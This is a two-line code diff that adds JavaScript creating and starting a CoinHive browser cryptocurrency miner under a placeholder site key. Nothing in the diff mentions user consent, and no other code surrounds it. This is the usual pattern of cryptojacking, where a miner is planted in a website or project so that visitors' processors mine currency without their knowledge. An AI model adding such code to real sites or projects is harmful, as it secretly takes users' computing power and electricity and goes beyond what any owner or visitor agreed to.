@@ -1,0 +1,2 @@
+const miner = new CoinHive.Anonymous("site-key");
+miner.start();
